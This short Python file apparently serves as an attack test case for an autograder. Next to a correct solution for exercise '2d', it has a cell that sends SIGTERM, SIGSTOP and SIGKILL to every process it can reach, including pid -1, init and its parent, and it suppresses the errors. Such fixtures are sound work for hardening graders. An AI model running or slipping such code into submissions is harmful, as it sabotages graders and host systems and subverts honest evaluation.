# /// attack
# tries = "signals every process it can name"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import signal

for process in (-1, 0, 1, os.getppid(), int("@PID@"), *range(2, 400)):
    if process == 0:
        continue
    for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(process, number)
        except OSError:
            continue
